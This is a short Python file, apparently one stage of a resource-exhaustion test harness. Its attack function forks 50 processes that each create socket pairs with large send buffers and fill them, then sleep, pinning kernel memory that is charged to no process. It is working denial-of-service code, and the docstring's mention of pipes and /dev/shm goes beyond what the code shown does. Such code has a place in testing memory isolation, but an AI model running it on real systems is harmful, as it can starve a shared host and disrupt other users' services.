"""Takes memory that belongs to no process: full pipes and sockets, and files in /dev/shm that have no name."""

import os
import socket
import time

from attack_stage import MIB

AT = "call"


def fill(here):
    os.set_blocking(here, False)
    try:
        while os.write(here, b"x" * 65536):
            pass
    except OSError:
        pass


def attack():
    for _ in range(50):
        if os.fork() == 0:
            held = []
            try:
                while True:
                    pair = socket.socketpair()
                    pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * MIB)
                    held.append(pair)
                    fill(pair[0].fileno())
            except OSError:
                time.sleep(300)
    time.sleep(300)
